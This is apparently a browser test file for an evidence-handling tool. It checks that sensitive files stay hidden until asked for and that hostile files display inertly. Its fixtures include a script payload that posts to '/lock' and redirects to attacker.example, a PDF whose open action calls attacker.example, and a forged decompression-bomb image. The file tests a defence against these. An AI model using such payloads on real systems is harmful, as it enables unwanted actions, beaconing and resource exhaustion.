"""The source screen: nothing is seen or heard before somebody asks, and a hostile file is shown as pixels or words."""

from __future__ import annotations

import base64
import io
import math
import secrets
import struct
import wave
import zlib
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import NamedTuple

import pytest
from PIL import Image
from playwright.sync_api import Browser, Page, expect
from tests.desk.desking import PASSPHRASE, Desking, desk, memory_folder, wait_for
from tests.desk.test_accessible import axe
from tests.evidence import documents

from habeas.casework.adding import Handed, add_files
from habeas.casework.context import Context
from habeas.casework.incoming import InMemory
from habeas.casework.marking import mark_passage, read_marked
from habeas.casework.sourcing import SourceTerms, set_source
from habeas.casework.starting import start_case, start_workspace

pytestmark = pytest.mark.browser

CASE = "files"
RED = (200, 30, 10)
WORDS = "Nobody was taken in Grayton.\n\nThe cellar had no window, says Taro.\n\nIn the morning Taro went home."
ATTACK = b"fetch('/lock',{method:'POST'});document.title='attacked';location='http://attacker.example/'"


def photograph() -> bytes:
    """A red picture."""
    made = io.BytesIO()
    Image.new("RGB", (900, 600), RED).save(made, "PNG")
    return made.getvalue()


def sound() -> bytes:
    """A second of a tone."""
    made = io.BytesIO()
    with wave.open(made, "wb") as file:
        file.setnchannels(1)
        file.setsampwidth(2)
        file.setframerate(8_000)
        file.writeframes(b"".join(struct.pack("<h", int(9_000 * math.sin(at / 5))) for at in range(8_000)))
    return made.getvalue()


def hostile_pdf() -> bytes:
    """A PDF file of two pages that would run a script and call home when it is opened."""
    action = b"/OpenAction << /S /JavaScript /JS (app.launchURL\\('http://attacker.example/'\\)) >>"
    return documents.pdf(documents.shown("First page"), documents.shown("Second page"), catalogue=action)


def bomb() -> bytes:
    """A picture of a few bytes that claims four thousand million pixels."""
    made = bytearray(photograph())
    made[16:24] = struct.pack(">II", 65_000, 65_000)
    made[29:33] = struct.pack(">I", zlib.crc32(bytes(made[12:29])))
    return bytes(made)


FILES: dict[str, tuple[bytes, dict[str, object]]] = {
    "words": (WORDS.encode(), {"kind": "testimony", "labels": ("none_seen",), "lang": "en"}),
    "hard": (WORDS.replace("Grayton", "Blackton").encode(), {"kind": "testimony", "labels": ("torture", "child")}),
    "photograph": (photograph(), {"kind": "photograph"}),
    "pdf": (hostile_pdf(), {"kind": "official_document"}),
    "sound": (sound(), {"kind": "audio", "labels": ("death",)}),
    "html": (b"<!doctype html><p>Read me<script>" + ATTACK + b"</script>", {"kind": "web_capture"}),
    "svg": (b"<svg xmlns='http://www.w3.org/2000/svg'><script>" + ATTACK + b"</script></svg>", {"kind": "other"}),
    "bomb": (bomb(), {"kind": "photograph"}),
}


def fill(folder: Path) -> dict[str, str]:
    """Make a workspace with these files; return their ids."""
    workspace, _ = start_workspace(folder, PASSPHRASE.encode(), label="tester", chance=secrets.token_bytes)
    context = Context(workspace=workspace, now=lambda: datetime.now(UTC))
    start_case(context, CASE)
    set_source(context, CASE, "mother", SourceTerms(kind="testimony", title="A mother", lang="en"), new=True)
    made = {}
    for name, (content, how) in FILES.items():
        handed = Handed(**({"origin": "mother"} | how))  # type: ignore[arg-type]
        made[name] = add_files(context, CASE, (InMemory(name=name, content=content),), handed).files[0].exhibit
    text = WORDS.replace("Grayton", "Blackton")
    start = text.index("The cellar")
    end = text.index("\n\nIn the")
    assert read_marked(context, CASE, made["hard"]).paragraphs
    mark_passage(context, CASE, made["hard"], "hard", ((start, end, text[start:end]),), note="about a room")
    workspace.close()
    return made


class Files(NamedTuple):
    """A window on a case with a file of each kind, and their ids."""

    made: Desking
    page: Page
    ids: dict[str, str]


@pytest.fixture(scope="module")
def files(browsing: Browser) -> Iterator[Files]:
    """A window on a case with a file of each kind."""
    with memory_folder() as folder:
        ids = fill(folder / "work")
        with desk(folder / "work") as made:
            yield Files(made, made.unlock(browsing), ids)


def visit(files: Files, name: str) -> Page:
    """Go to a file."""
    page = files.page
    page.goto(f"{files.made.at}/source/{files.ids[name]}")
    page.wait_for_load_state("load")
    return page


def asked(made: Desking, path: str) -> int:
    """How often something was asked for so far."""
    return sum(one.endswith(path) for one in made.addresses)


def pixel(page: Page) -> tuple[int, ...]:
    """The colour in the middle of the picture."""
    address = page.locator("canvas").evaluate("(c) => c.toDataURL()")
    with Image.open(io.BytesIO(base64.b64decode(address.partition(",")[2]))) as seen:
        found = seen.convert("RGB").getpixel((seen.width // 2, seen.height // 2))
    assert isinstance(found, tuple)
    return found


def leave(page: Page) -> None:
    """Turn to another tab, as the page notices it."""
    page.evaluate(
        "Object.defineProperty(document, 'hidden', { value: true, configurable: true });"
        "document.dispatchEvent(new Event('visibilitychange'));"
        "Object.defineProperty(document, 'hidden', { value: false, configurable: true })"
    )


def test_a_picture_is_covered_then_grey_then_in_colour_and_covered_again(
    files: Files,
) -> None:
    """Nobody meets a picture before they ask; it comes small and grey, and goes when they look away."""
    page = files.page
    visit(files, "photograph")
    expect(page.locator("[data-part=note]")).to_contain_text("Nobody has looked through this yet")
    assert asked(files.made, "/source/look") == 0
    assert page.locator("canvas, img, video, audio").count() == 0
    page.keyboard.press("m")
    expect(page.locator("[data-words]")).to_have_text("in grey")
    grey = pixel(page)
    assert len(set(grey)) == 1
    assert page.locator("canvas").evaluate("(c) => Math.max(c.width, c.height)") == 420
    page.get_by_role("button", name="In colour").click()
    expect(page.locator("[data-words]")).to_have_text("in colour")
    assert pixel(page) == RED
    page.get_by_role("button", name="Larger").click()
    expect(page.locator("canvas")).to_have_js_property("width", 900)
    leave(page)
    expect(page.locator("[data-part=media] [data-covered]")).to_be_visible()
    assert page.locator("canvas").count() == 0
    page.keyboard.press("m")
    expect(page.locator("[data-words]")).to_have_text("in grey")
    assert axe(page) == []
    page.keyboard.press("m")
    assert page.locator("canvas").count() == 0
    expect(page.locator("[data-do=look]")).to_be_focused()


def test_hostile_files_are_pixels_or_words_and_do_nothing(files: Files) -> None:
    """A file that would run something or call somebody is looked at without either; a bomb is refused in words."""
    page = files.page
    visit(files, "pdf")
    page.keyboard.press("m")
    expect(page.locator("[data-words]")).to_have_text("Page 1 of 2, in grey")
    first = page.locator("canvas").evaluate("(c) => c.toDataURL()")
    expect(page.locator("[data-by='-1']")).to_be_hidden()
    page.keyboard.press("n")
    expect(page.locator("[data-words]")).to_have_text("Page 2 of 2, in grey")
    assert page.locator("canvas").evaluate("(c) => c.toDataURL()") != first
    for name in ("html", "svg"):
        visit(files, name)
        assert page.locator("[data-do=look]").count() == 0
        if page.locator("[data-part=text] button").count():
            page.keyboard.press("m")
            expect(page.locator("[data-part=text] [data-covered]")).to_have_count(0)
        assert page.locator("main svg, main iframe, main object, main embed, main script").count() == 0
    visit(files, "bomb")
    page.keyboard.press("m")
    expect(page.locator("[data-part=trouble]")).to_contain_text("unpacks to more than any document does")
    expect(page.locator("[data-part=media] [data-covered]")).to_be_visible()
    files.made.check_quiet()


def test_a_recording_comes_when_it_is_asked_for_and_is_silent(files: Files) -> None:
    """A voice does not speak into a room before somebody let it."""
    page = files.page
    visit(files, "sound")
    assert asked(files.made, "/source/hear") == 0
    expect(page.locator("[data-part=note]")).to_contain_text("death or remains")
    page.keyboard.press("m")
    player = page.locator("audio")
    expect(player).to_have_count(1)
    assert player.evaluate("(a) => a.muted && a.paused && a.preload === 'none' && !a.autoplay")
    player.evaluate("(a) => a.play()")
    wait_for(lambda: player.evaluate("(a) => a.currentTime > 0"))
    leave(page)
    expect(player).to_have_count(0)
    files.made.check_quiet()


def test_hard_words_are_fetched_when_asked_for_and_covered_again(
    files: Files,
) -> None:
    """What is hard to read is named first, opened by a key, and a passage within it stays folded for another."""
    page = files.page
    visit(files, "hard")
    note = page.locator("[data-part=note]")
    expect(note).to_contain_text("torture")
    expect(note).to_contain_text("child")
    assert "Blackton" not in page.content()
    page.keyboard.press("m")
    expect(page.locator(".words-of")).to_contain_text("Nobody was taken in Blackton.")
    assert "cellar" not in page.content()
    expect(page.locator(".said .box")).to_contain_text("about a room")
    page.get_by_role("button", name="Show this passage").click()
    expect(page.locator(".words-of")).to_contain_text("The cellar had no window")
    assert axe(page) == []
    leave(page)
    expect(page.locator("[data-part=text] [data-covered]")).to_be_visible()
    assert "Blackton" not in page.content()
    assert "cellar" not in page.content()
    visit(files, "words")
    expect(page.locator(".words-of")).to_contain_text("Nobody was taken in Grayton.")


def test_labels_are_changed_undone_and_never_over_somebody_else(files: Files) -> None:
    """What a file holds is said once for all; two windows cannot undo each other's warning without seeing it."""
    page = files.page
    visit(files, "words")
    other = page.context.new_page()
    other.goto(page.url)
    for window, term in ((page, "torture"), (other, "medical")):
        window.get_by_text("Say what it holds").click()
        window.locator(f"input[name=labels][value={term}]").check()
        window.locator("[data-part=labels] form button", has_text="Save").click()
    expect(page.locator("[data-part=note]")).to_contain_text("torture")
    expect(page.locator("[data-part=text] [data-covered]")).to_be_visible()
    expect(other.locator(".trouble")).to_contain_text("Another window changed this record")
    expect(other.locator(".both")).to_contain_text("torture")
    expect(other.locator(".both")).to_contain_text("medical details")
    other.close()
    page.get_by_role("button", name="Undo").click()
    expect(page.locator("[data-part=note]")).to_contain_text("found nothing")
    expect(page.locator(".words-of")).to_contain_text("Grayton")


def test_copies_are_made_from_it_and_told(files: Files) -> None:
    """A transcript becomes a file with the same warnings; a redacted copy says what is gone and how that was proved."""
    page = files.page
    visit(files, "sound")
    page.get_by_text("Add a transcript or a translation").click()
    page.locator("#tool").fill("by hand")
    page.locator("#derived-text").fill("An invented voice says little.")
    page.get_by_role("button", name="Add it").click()
    page.locator("[data-part=derived] a").click()
    page.wait_for_url(lambda url: not url.endswith(files.ids["sound"]))
    expect(page.locator("[data-part=note]")).to_contain_text("death or remains")
    expect(page.locator("#copies-title ~ p").first).to_contain_text("transcript")
    visit(files, "words")
    expect(page.locator(".out input").first).to_be_hidden()
    page.get_by_text("Make a copy without some words").click()
    page.locator("#words").fill("Taro\nXylophone")
    page.locator(".out input").first.check()
    page.get_by_role("button", name="Make the copy").click()
    told = page.locator("[data-part=redacted]")
    expect(told).to_contain_text("3 passages are gone")
    expect(told).to_contain_text("Found nowhere: Xylophone")
    expect(told).to_contain_text("taken out anew")
    told.get_by_text("Look at the copy").click()
    page.wait_for_url(lambda url: not url.endswith(files.ids["words"]))
    expect(page.locator(".words-of")).to_contain_text("went home")
    assert "Taro" not in page.locator("main").inner_text()
    assert "Grayton" not in page.locator("main").inner_text()


def test_it_says_where_it_came_from_and_who_looked(files: Files) -> None:
    """A lawyer finds the fingerprint, who had the file and when; whoever opened it is named; the next file is a key
    away."""
    page = files.page
    visit(files, "words")
    expect(page.locator(".facts")).to_contain_text("Fingerprint (SHA-256)")
    expect(page.locator(".moments")).to_contain_text("taken into Habeas, as it came · tester")
    page.get_by_role("button", name="Who read this record").click()
    expect(page.locator("[data-part=read] li", has_text="read").first).to_contain_text("tester")
    page.keyboard.press("]")
    page.wait_for_url(f"**/source/{files.ids['hard']}")
    page.keyboard.press("[")
    page.wait_for_url(f"**/source/{files.ids['words']}")
    assert page.title() == "Habeas"
    page.keyboard.press("z")
    page.wait_for_url("**/inbox")
    visit(files, "words")
    assert axe(page) == []


def test_a_source_is_judged_and_who_it_is_stays_covered(files: Files) -> None:
    """What is said of a source is kept once, never over somebody else; who it is opens for whoever asks, and closes."""
    page = files.page
    page.goto(f"{files.made.at}/sources")
    expect(page.locator("table.people tbody tr")).to_have_count(1)
    page.get_by_text("Make a source").click()
    page.locator("#slug").fill("A Name")
    page.get_by_role("button", name="Make it").click()
    expect(page.locator("[data-part=trouble]")).to_contain_text("small letters, digits and hyphens")
    page.locator("#slug").fill("a-neighbour")
    page.locator("#title").fill("A neighbour")
    page.get_by_role("button", name="Make it").click()
    page.wait_for_url("**/origin/src_*")
    expect(page.locator("h1")).to_have_text("A neighbour")
    other = page.context.new_page()
    other.goto(page.url)
    for window, grade in ((page, "B"), (other, "D")):
        window.get_by_text("Change what is said of it").click()
        window.locator("#reliability").select_option(grade)
        window.locator("#reliability_reason").fill(f"reason {grade}")
        window.get_by_role("button", name="Save", exact=True).click()
        window.locator("[data-part=edit] .trouble, .toasts p").first.wait_for()
    expect(other.locator("[data-part=edit] .trouble")).to_contain_text("Another window changed this record")
    expect(other.locator("[data-part=edit] .facts")).to_contain_text("reason B")
    expect(other.locator("#reliability_reason")).to_have_value("reason D")
    other.close()
    page.get_by_text("Seal who it is").click()
    page.locator("#who-words").fill("Invented Neighbour of Nowhere")
    page.get_by_role("button", name="Seal it").click()
    expect(page.locator("[data-part=identity]")).to_contain_text("To look is written down")
    assert "Invented Neighbour" not in page.locator("main").inner_text()
    page.keyboard.press("m")
    expect(page.locator("[data-part=identity]")).to_contain_text("Invented Neighbour of Nowhere")
    assert axe(page) == []
    leave(page)
    expect(page.locator("[data-part=identity] [data-covered]")).to_be_visible()
    assert "Invented Neighbour" not in page.locator("main").inner_text()
    page.goto(f"{files.made.at}/sources")
    expect(page.locator("table.people tbody tr")).to_have_count(2)
    assert axe(page) == []
